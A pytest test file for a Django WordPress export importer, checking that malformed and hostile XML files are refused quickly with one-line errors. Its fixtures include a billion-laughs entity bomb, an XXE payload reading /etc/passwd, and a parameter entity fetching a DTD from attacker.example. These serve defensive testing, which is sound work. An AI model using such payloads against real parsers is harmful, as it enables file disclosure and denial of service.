"""Hostile or broken files are refused quickly, with one line that says why, and a non-zero exit
where nothing could be imported; a broken post is a warning on that post."""

import subprocess
import sys
import time
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from articles.models import Article
from wordpress import wxr

from .wxr_files import Export, Post

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HEAD = """<?xml version="1.0" encoding="UTF-8"?>"""
OPEN = """<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><link>https://old.example</link>
<wp:wxr_version>1.2</wp:wxr_version>"""

BILLION_LAUGHS = (
    HEAD
    + """<!DOCTYPE rss [
<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""
    + OPEN
    + "<item><title>&lol9;</title><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type>"
    "<wp:status>publish</wp:status></item></channel></rss>"
)
EXTERNAL_ENTITY = (
    HEAD
    + """<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"""
    + OPEN
    + "<item><title>&xxe;</title><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type>"
    "<wp:status>publish</wp:status></item></channel></rss>"
)
PARAMETER_ENTITY = (
    HEAD
    + """<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>"""
    + OPEN
    + "</channel></rss>"
)


def refused(run_import, content, name="bad.xml"):
    started = time.monotonic()
    with pytest.raises(CommandError) as raised:
        run_import(content, name=name)
    assert time.monotonic() - started < 5
    message = str(raised.value)
    assert "\n" not in message
    assert Article.objects.count() == 0
    return message


@pytest.mark.parametrize(
    "content", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["laughs", "xxe", "param"]
)
def test_dtds_and_entities_are_refused(run_import, content):
    message = refused(run_import, content)
    assert "refused: the file declares a DTD or entities" in message
    assert "root:" not in message  # nothing of /etc/passwd


class Endless:
    """A file of ``size`` bytes whose one text node is everything but its first bytes."""

    def __init__(self, size):
        self.head = (OPEN + "<item><content:encoded>").encode()
        self.left = size
        self.position = 0

    def read(self, n=-1):
        if self.position < len(self.head):
            chunk = self.head[self.position : self.position + n]
            self.position += len(chunk)
            return chunk
        n = min(n, self.left)
        self.left -= n
        return b"a" * n


def test_a_2_gib_text_node_is_refused_early_with_flat_memory():
    import tracemalloc

    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(wxr.WXRError) as raised:
        for _ in wxr.Reader(Endless(2 * 2**30)):
            pass
    seconds = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "one XML node is larger than 32 MiB" in str(raised.value)
    assert seconds < 10
    assert peak < 200 * 2**20


def test_a_large_text_node_in_a_file_is_refused_by_the_command(run_import, monkeypatch):
    # The same guard at a smaller size, so the test writes 3 MiB rather than 2 GiB.
    monkeypatch.setattr(wxr, "MAX_NODE_BYTES", 2**20)
    content = OPEN + "<item><title>" + "x" * (3 * 2**20) + "</title></item></channel></rss>"
    message = refused(run_import, content)
    assert "one XML node is larger than 1 MiB" in message


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("this is not xml at all", "not well-formed XML at line 1"),
        ("", "the file ends early (truncated?)"),
        (
            HEAD + "<html><body>hello</body></html>",
            "not a WordPress export: the file is XML but not RSS",
        ),
        (
            HEAD + '<rss version="2.0"><channel><title>x</title></channel></rss>',
            "not a WordPress export: no WXR elements",
        ),
        (OPEN + "<item><title>cut off", "the file ends early (truncated?)"),
    ],
    ids=["not-xml", "empty", "html", "plain-rss", "truncated"],
)
def test_broken_files_get_one_line(run_import, content, expected):
    assert expected in refused(run_import, content)


def test_a_truncated_export_imports_nothing(run_import, tmp_path):
    whole = Export(items=[Post(1), Post(2)]).xml()
    message = refused(run_import, whole[: len(whole) - 200])
    assert "ends early" in message or "not well-formed" in message


def test_a_missing_file(tmp_path):
    with pytest.raises(CommandError, match="cannot open"):
        call_command("import_wordpress", str(tmp_path / "nowhere.xml"))


def test_nothing_importable_exits_non_zero(run_import):
    with pytest.raises(CommandError, match="nothing could be imported"):
        run_import(Export(items=[Post(1, date_gmt="garbage")]))


def test_the_exit_code_and_the_one_line_from_the_shell(tmp_path):
    bomb = tmp_path / "bomb.xml"
    bomb.write_text(BILLION_LAUGHS)
    result = subprocess.run(
        [sys.executable, "manage.py", "import_wordpress", str(bomb)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1
    assert "refused: the file declares a DTD or entities" in lines[0]
